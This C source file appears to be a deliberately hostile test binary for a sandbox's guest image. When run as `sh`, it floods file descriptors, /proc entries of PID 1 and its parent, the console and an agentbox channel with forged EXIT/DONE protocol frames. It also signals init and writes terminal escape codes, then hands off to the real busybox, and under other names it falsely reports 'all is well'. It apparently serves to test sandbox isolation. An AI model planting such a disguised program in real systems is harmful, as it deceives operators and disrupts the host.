/* SPDX-License-Identifier: MIT */
/*
 * Every program of a hostile image, the loader among them. As `sh` it first does what harm it can to whoever
 * runs it (writes frames of the guest's language to every descriptor there is, to the guest's and to its
 * keeper's; sends signals), then runs the real shell, so that there is something to be lied about. As
 * anything else it says what is not so.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

/* EXIT of stream 1, then DONE of the first file request, each with an empty payload. */
static const unsigned char frames[] = { 15, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0,
                                        8,  0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 64 };

static void write_to(const char *path)
{
    int fd = open(path, O_WRONLY | O_NONBLOCK);

    if (fd >= 0) {
        (void) !write(fd, frames, sizeof(frames));
        (void) close(fd);
    }
}

static void harm(void)
{
    char path[64];

    for (int fd = 3; fd < 256; fd++)
        (void) !write(fd, frames, sizeof(frames));
    for (int fd = 0; fd < 32; fd++) {
        (void) snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
        write_to(path);
        (void) snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int) getppid(), fd);
        write_to(path);
    }
    write_to("/dev/console");
    write_to("/.agentbox/guest");
    for (int sig = 1; sig < 32; sig++)
        (void) kill(1, sig);
    (void) !write(1, frames, sizeof(frames));
    (void) !write(2, "\033[2J\033]0;evil\007", 14);
}

int main(int argc, char **argv)
{
    const char *name = strrchr(argv[0], '/') ? strrchr(argv[0], '/') + 1 : argv[0];

    (void) argc;
    if (strcmp(name, "sh") != 0) {
        (void) printf("all is well: %s\n", name);
        return 0;
    }
    harm();
    argv[0] = "sh";
    (void) setenv("PATH", "/bin:/.real", 1);
    (void) execv("/.real/busybox", argv);
    return 126;
}
